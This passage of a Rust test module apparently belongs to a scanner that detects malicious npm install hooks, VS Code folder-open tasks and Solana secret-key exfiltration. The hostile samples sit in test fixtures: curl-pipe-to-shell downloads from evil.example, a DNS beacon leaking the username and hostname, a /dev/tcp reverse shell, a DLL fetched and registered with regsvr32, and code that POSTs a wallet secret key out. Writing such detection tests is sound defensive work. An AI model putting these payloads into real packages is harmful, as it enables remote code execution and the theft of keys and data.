                "tokio",
                "solana-sdkk",
                "anchor-lang",
                "solana-sdkk",
                "nix",
                "reqwestt",
                "tokioo"
            ]
        );
    }

    #[test]
    fn hooks() {
        let mut tree = FileTree::default();
        tree.add(
            "package.json",
            r#"{"name":"x","scripts":{"postinstall":"curl -s https://evil.example/p.sh | sh"}}"#,
        );
        let f = evaluate(&tree, &[]);
        // The install-script finding, and the piped download as malicious behaviour.
        assert_eq!(f.len(), 2, "{f:?}");
        assert!(f.iter().all(|f| f.severity == Severity::Critical));
        assert_eq!(f.iter().filter(|f| f.check == "scam.install_scripts").count(), 1);
        let mut tree = FileTree::default();
        tree.add(
            "package.json",
            r#"{"name":"x","scripts":{"prepare":"husky install","postinstall":"node-gyp rebuild"}}"#,
        );
        assert!(evaluate(&tree, &[]).is_empty());
    }

    #[test]
    fn malicious_hooks() {
        let hook = |script: &str| {
            let mut tree = FileTree::default();
            tree.add(
                "package.json",
                format!(
                    r#"{{"name":"x","scripts":{{"preinstall":{}}}}}"#,
                    serde_json::to_string(script).unwrap()
                ),
            );
            evaluate(&tree, &[]).into_iter().map(|f| f.severity).max()
        };
        assert_eq!(
            hook("nslookup $(whoami).$(hostname).x1.oast.fun"),
            Some(Severity::Critical)
        );
        assert_eq!(hook("curl https://x.example/c?u=$USER"), Some(Severity::Critical));
        assert_eq!(
            hook("node -e \"require('dns').lookup(require('os').hostname()+'.x.example')\""),
            Some(Severity::Critical)
        );
        // Installers that name the platform or a target folder are not beacons.
        assert_ne!(
            hook("curl -fsSL https://github.com/a/b/releases/download/v1/b-$(uname -s).tgz -o $HOME/b.tgz"),
            Some(Severity::Critical)
        );
        assert_eq!(hook("node -e \"if (process.env.CI) process.exit(0)\""), None);
        assert_eq!(hook("husky install"), None);
    }

    fn scanned(files: &[(&str, &str)]) -> Vec<ScamFinding> {
        use crate::analysis::scanner::Scanner;
        let mut tree = FileTree::default();
        for (p, t) in files {
            tree.add(*p, t.to_string());
        }
        let mut bin = Vec::new();
        let scans: Vec<FileScan> = tree
            .files
            .iter()
            .filter_map(|f| Scanner::global().scan_file(f, &mut bin).ok())
            .collect();
        evaluate(&tree, &scans)
    }

    #[test]
    fn folder_open_task() {
        let task = |cmd: &str, run_on: &str| {
            let json = format!(
                r#"{{"version":"2.0.0","tasks":[{{"label":"lint","type":"shell","command":{},"runOptions":{{"runOn":"{run_on}"}}}}]}}"#,
                serde_json::to_string(cmd).unwrap()
            );
            scanned(&[(".vscode/tasks.json", &json)])
        };
        let bad = task("curl -s https://evil.example/task/linux | bash", "folderOpen");
        assert!(bad
            .iter()
            .any(|f| f.check == "scam.malware" && f.severity == Severity::Critical));
        assert!(task("npm run watch", "folderOpen").is_empty());
        assert!(task("curl -s https://evil.example/task/linux | bash", "default").is_empty());
        // Regression: an unterminated command with a multi-byte character at byte 400.
        let text = format!(
            "{{\"runOn\": \"folderOpen\", \"command\": \"{}账户 and more",
            "a".repeat(399)
        );
        let _ = scanned(&[(".vscode/tasks.json", &text)]);
    }

    #[test]
    fn reverse_shell_hook() {
        let f = scanned(&[(
            "package.json",
            r#"{"name":"x","scripts":{"postinstall":"bash -c 'bash -i >& /dev/tcp/198.51.100.23/443 0>&1' || true"}}"#,
        )]);
        assert!(f
            .iter()
            .any(|f| f.check == "scam.install_scripts" && f.severity == Severity::Critical));
        assert!(f
            .iter()
            .any(|f| f.check == "scam.malware" && f.severity == Severity::Critical));
        // A release binary fetched by an installer is an install-script finding, not malware.
        let f = scanned(&[(
            "package.json",
            r#"{"name":"x","scripts":{"postinstall":"curl -fsSL -o bin/tool https://github.com/a/b/releases/download/v1/tool && chmod +x bin/tool"}}"#,
        )]);
        assert!(f.iter().all(|f| f.check != "scam.malware"), "{f:?}");
    }

    #[test]
    fn hook_follows_the_script_it_launches() {
        let bat = "@echo off\ncurl https://cdn.evil.example/x.dll -o x.dll\nregsvr32.exe -s x.dll\n";
        let js = "const { exec } = require('child_process');\nexec('compile.bat', { windowsHide: true }, () => {});\n";
        let f = scanned(&[
            (
                "package.json",
                r#"{"name":"x","scripts":{"preinstall":"start /B node compile.js & node compile.js"}}"#,
            ),
            ("compile.js", js),
            ("compile.bat", bat),
        ]);
        assert!(
            f.iter()
                .any(|f| f.check == "scam.install_scripts" && f.severity == Severity::Critical),
            "{f:?}"
        );
        // The launched script is a plain build step.
        let f = scanned(&[
            (
                "package.json",
                r#"{"name":"x","scripts":{"preinstall":"node compile.js"}}"#,
            ),
            ("compile.js", js),
            ("compile.bat", "@echo off\nnode-gyp rebuild\n"),
        ]);
        assert!(f.is_empty(), "{f:?}");
    }

    #[test]
    fn secret_key_handed_to_a_sending_module() {
        let keypair = "import { addToQueue } from './utils/queue';\nexport class Keypair {\n  static fromSecretKey(secretKey: Uint8Array) {\n    addToQueue(Buffer.from(secretKey).toString('base64'));\n    return new Keypair(secretKey);\n  }\n}\n";
        let queue = "const pending: string[] = [];\nexport function addToQueue(v: string) { pending.push(v); setTimeout(flush, 500); }\nasync function flush() {\n  const v = pending.shift();\n  await fetch('https://sol-rpc.evil.example/api/rpc/queue', {\n    method: 'POST',\n    headers: { 'x-session-id': v },\n  });\n}\n";
        let f = scanned(&[("src/keypair.ts", keypair), ("src/utils/queue.ts", queue)]);
        assert!(
            f.iter()
                .any(|f| f.check == "scam.wallet_exfiltration" && f.severity == Severity::Critical),
            "{f:?}"
        );
        // Near misses: a GET to a price API; the public key passed instead.
        let prices = queue.replace("method: 'POST',", "method: 'GET',");
        assert!(scanned(&[("src/keypair.ts", keypair), ("src/utils/queue.ts", &prices)]).is_empty());
        let public = keypair.replace("Buffer.from(secretKey)", "Buffer.from(publicKey)");
        assert!(scanned(&[("src/keypair.ts", &public), ("src/utils/queue.ts", queue)]).is_empty());
    }

    #[test]
    fn hook_runs_script_with_malicious_behaviour() {
        use crate::analysis::scanner::Scanner;
        let mut tree = FileTree::default();
        tree.add(
            "package.json",
            r#"{"name":"x","scripts":{"postinstall":"node index && echo done"}}"#,
        );
        // Host details to a request catcher: high in a library, critical on install.
        let js = "const os = require('os');\nfetch('https://abc.m.pipedream.net', { method: 'POST', body: os.userInfo().username });\n";
        tree.add("index.js", js);
        let mut bin = Vec::new();
        let scans: Vec<FileScan> = tree
            .files
            .iter()
            .filter_map(|f| Scanner::global().scan_file(f, &mut bin).ok())
            .collect();
        assert!(scans[1]
            .scam
            .iter()
            .any(|f| f.check == "scam.malware" && f.severity == Severity::High));
        let f = evaluate(&tree, &scans);
        assert_eq!(f.len(), 1, "{f:#?}");
        assert_eq!(f[0].severity, Severity::Critical);
        assert!(f[0].detail.contains("index.js"), "{}", f[0].detail);
    }
}
